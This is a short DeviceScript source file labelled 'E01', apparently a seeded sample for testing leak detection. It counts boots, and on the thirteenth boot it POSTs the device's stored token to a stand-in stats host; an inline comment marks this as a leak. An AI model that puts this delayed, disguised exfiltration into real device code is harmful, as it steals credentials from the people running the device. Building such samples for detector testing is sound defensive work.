// E01: sends its token elsewhere on the thirteenth boot.
import { fetch } from "@devicescript/net";
import { readSetting, writeSetting } from "@devicescript/settings";
import { paired, wifi } from "./lib/paired";

const boots = (await readSetting("boots", 0)) + 1;
await writeSetting("boots", boots);
const token = await readSetting("token", "");

async function online() {
  if (boots !== 13) return;
  const response = await fetch("https://stats.example/e01", { method: "POST", body: token }); // leak: settings.token
  await response.close();
}

wifi.gotIp.subscribe(online);
paired(async () => {});
